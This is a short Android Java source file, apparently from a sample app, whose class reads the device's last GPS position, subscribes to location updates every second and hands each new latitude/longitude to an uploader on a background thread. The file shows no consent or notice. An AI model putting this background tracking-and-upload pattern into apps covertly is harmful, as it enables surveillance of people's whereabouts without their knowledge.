package org.apkfarm.sample.oldtarget;

import android.content.Context;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;

/** Reads the last position and follows the next ones. */
final class Locations implements LocationListener {
    private static final long INTERVAL_MILLISECONDS = 1000;

    private Locations() {}

    static String last(Context context) {
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        try {
            manager.requestLocationUpdates(
                    LocationManager.NETWORK_PROVIDER, INTERVAL_MILLISECONDS, 0, new Locations());
            Location location = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
            return location == null ? "" : location.getLatitude() + "," + location.getLongitude();
        } catch (SecurityException refused) {
            return "";
        } catch (IllegalArgumentException noProvider) {
            return "";
        }
    }

    @Override
    public void onLocationChanged(final Location location) {
        new Thread("location") {
            @Override
            public void run() {
                Uploader.send("location", location.getLatitude() + "," + location.getLongitude());
            }
        }.start();
    }

    @Override
    public void onStatusChanged(String provider, int status, Bundle extras) {}

    @Override
    public void onProviderEnabled(String provider) {}

    @Override
    public void onProviderDisabled(String provider) {}
}
